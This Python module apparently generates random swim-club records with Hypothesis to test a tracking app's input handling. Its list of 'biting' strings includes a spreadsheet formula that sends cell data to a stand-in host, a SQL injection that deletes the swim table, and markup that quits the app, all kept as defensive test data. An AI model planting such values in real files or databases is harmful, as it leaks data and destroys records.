"""Random clubs: any records that the rules allow, with the texts that bite."""

from __future__ import annotations

import datetime as dt
from typing import Any

from hypothesis import strategies as st

from tracker.engine.verdict.verdict import Word
from tracker.model.base import Record
from tracker.model.catalogue import areas, catalogue, measures
from tracker.model.event import Event, Load
from tracker.model.event_kinds import offered_kinds
from tracker.model.fault import FaultStep, OwnFault
from tracker.model.review import ReviewItem
from tracker.model.swim import Swim
from tracker.model.swim_test import BUILT_IN, SwimTest
from tracker.model.swimmer import Choice, Consent, Swimmer
from tracker.model.text import checked_line, checked_note
from tracker.model.told import Told
from tracker.model.work import Work

BITING = (
    '=IMAGE("http://buoy.test/?"&A2,"tide")',
    "+1 (555) 0100",
    "-3 s",
    "@coach",
    "'=1",
    "''",
    "＝1",
    "＠x",
    "NA",
    "None",
    "nan",
    "True",
    "Ana [/]",
    "[@click=app.quit]Ana",
    "$$",
    "Zoë",
    "凌汐舟",
    "سامر",
    "🏊‍♀️ Ana",
    "a,b",
    'say "x"',
    "Tansy'); DELETE FROM swim;--",
    "%",
    "\\",
    "1:02.3",
    "2026-05-04",
    "0",
    " ",
    ";",
    "|",
)
DAYS = st.dates(dt.date(2000, 1, 1), dt.date(2026, 6, 30))
_LETTERS = st.characters(
    exclude_categories=["Cs", "Cc"],
    exclude_characters="\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff",
)


def lines(least: int = 0) -> st.SearchStrategy[str]:
    made = st.sampled_from(BITING) | st.text(_LETTERS, max_size=12)
    return made.map(checked_line).filter(lambda text: len(text) >= least)


NOTES = (
    st.just("")
    | st.sampled_from([*BITING, "\t=1", "\n=1", "a\nb", 'a\n"b"\n,c'])
    | st.text(_LETTERS | st.sampled_from("\n\t"), max_size=20)
).map(checked_note)
SIDES = st.sampled_from(["", "left", "right"])
FAULTS = st.sampled_from([fault.slug for fault in catalogue()])
SLUGS = st.from_regex(r"[a-z0-9-]{1,12}", fullmatch=True)


def numbers(low: float, high: float) -> st.SearchStrategy[float]:
    # SQLite keeps no sign of zero: adding 0.0 takes it away
    fractions = st.floats(low, high, allow_subnormal=False).map(lambda value: value + 0.0)
    return fractions | st.integers(int(low) + 1, int(high)).map(float)


TIMES = st.integers(1, 35_999_999).map(lambda hundredths: hundredths / 100)
COURSES = st.sampled_from(["SCM", "LCM", "SCY", "OW", "33.3m", "20m"])


def maybe(made: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.none() | made


def records(label: st.SearchStrategy[str]) -> st.SearchStrategy[Record]:
    """Return a strategy of records that name one of the swimmers."""
    swim = st.builds(
        Swim,
        date=DAYS,
        swimmer=label,
        test=st.sampled_from(["", "t400", "css", "own"]),
        distance_m=numbers(0.01, 100_000),
        time_s=TIMES,
        course=COURSES,
        suit=st.sampled_from(["none", "wetsuit"]),
        kit=lines(),
        start=st.sampled_from(["", "push", "dive"]),
        at=st.sampled_from(["", "06:30"]),
        warmup_min=maybe(numbers(0, 600)),
        rest_s=maybe(numbers(0, 86_400)),
        strokes=st.sampled_from(["", "18", "18 19 20"]),
        rate_cpm=maybe(numbers(0.01, 120)),
        effort=maybe(st.integers(1, 10)),
        conditions=lines(),
        set_id=lines(),
        decision=st.sampled_from(["", "accepted", "kept", "aside"]),
        note=NOTES,
    )
    score = st.builds(
        ReviewItem,
        date=DAYS,
        swimmer=label,
        reviewer=lines(1),
        kind=st.just("score"),
        item=st.sampled_from([area.slug for area in areas()]),
        value=st.integers(1, 5).map(float),
        clip=lines(),
        note=NOTES,
    )
    measure = st.builds(
        ReviewItem,
        date=DAYS,
        swimmer=label,
        reviewer=lines(1),
        kind=st.just("measure"),
        side=SIDES,
        item=st.sampled_from([measure.slug for measure in measures()]),
        value=numbers(-180, 180),
        points=lines(),
    )
    step = st.builds(
        FaultStep,
        date=DAYS,
        swimmer=label,
        fault=FAULTS,
        side=SIDES,
        severity=maybe(st.integers(1, 3)),
        reviewer=lines(),
        step=st.sampled_from(["open", "seen", "work", "corrected", "parked", "back"]),
        note=NOTES,
    )
    work = st.builds(
        Work,
        from_date=DAYS,
        swimmer=label,
        kind=st.sampled_from(["cue", "drill"]),
        fault=st.just("") | FAULTS,
        text=lines(1),
        per_week=maybe(numbers(0.01, 50)),
    )
    event = st.builds(
        Event,
        from_date=DAYS,
        to_date=maybe(st.dates(dt.date(2026, 6, 30), dt.date(2027, 1, 1))),
        swimmer=label,
        kind=st.sampled_from(offered_kinds(health=False)),
        note=NOTES,
    )
    load = st.builds(
        Load, week=DAYS, swimmer=label, sessions=maybe(st.integers(0, 50)), metres=maybe(numbers(0, 500_000))
    )
    consent = st.builds(
        Consent,
        date=DAYS,
        swimmer=label,
        purpose=st.sampled_from(["record", "pages", "clips"]),
        ground=lines(),
        how=lines(),
        given_by=st.sampled_from(["self", "guardian"]),
        text_version=lines(),
        until=maybe(DAYS),
        withdrawn=maybe(DAYS),
    )
    choice = st.builds(
        Choice,
        date=DAYS,
        swimmer=label,
        kind=st.sampled_from(["choose", "stagger", "seen"]),
        fault=st.just("") | FAULTS,
        side=SIDES,
        value=lines(),
        reason=NOTES,
        by=lines(),
    )
    told = st.builds(
        Told,
        date=DAYS,
        swimmer=label,
        verdict=st.sampled_from(list(Word)).map(str),
        p=maybe(numbers(0, 1)),
        since=maybe(DAYS),
        link=lines(),
        where=st.sampled_from(["page", "summary", "seen"]),
        who=lines(),
    )
    return st.one_of(swim, swim, score, measure, step, work, event, load, consent, choice, told)


@st.composite
def clubs(draw: st.DrawFn, most: int = 12) -> list[Record]:
    """Draw a club: swimmers, own tests and faults, then records of theirs."""
    labels = draw(st.lists(lines(1), min_size=1, max_size=4, unique=True))
    people = [
        draw(
            st.builds(
                Swimmer,
                swimmer=st.just(label),
                group=lines(),
                born=maybe(st.integers(1900, 1999)),
                note=NOTES,
                target_pace=maybe(TIMES),
                target_date=maybe(DAYS),
                archived=maybe(DAYS),
            )
        )
        for label in labels
    ]
    built_in = {test.test for test in BUILT_IN}
    slugs = draw(st.lists(SLUGS.filter(lambda slug: slug not in built_in), max_size=2, unique=True))
    tests = [
        draw(
            st.builds(
                SwimTest,
                test=st.just(slug),
                name=lines(),
                kind=st.sampled_from(["distances", "repeats"]),
                distances=st.sampled_from(["", "400", "400 200"]),
                rest_s=maybe(numbers(0, 86_400)),
                protocol=NOTES,
            )
        )
        for slug in slugs
    ]
    own = [
        draw(st.builds(OwnFault, fault=st.just(f"own-{slug}"), name=lines(1), cues=NOTES, caution=NOTES))
        for slug in slugs
    ]
    rest = draw(st.lists(records(st.sampled_from(labels)), max_size=most))
    return [*people, *tests, *own, *rest]
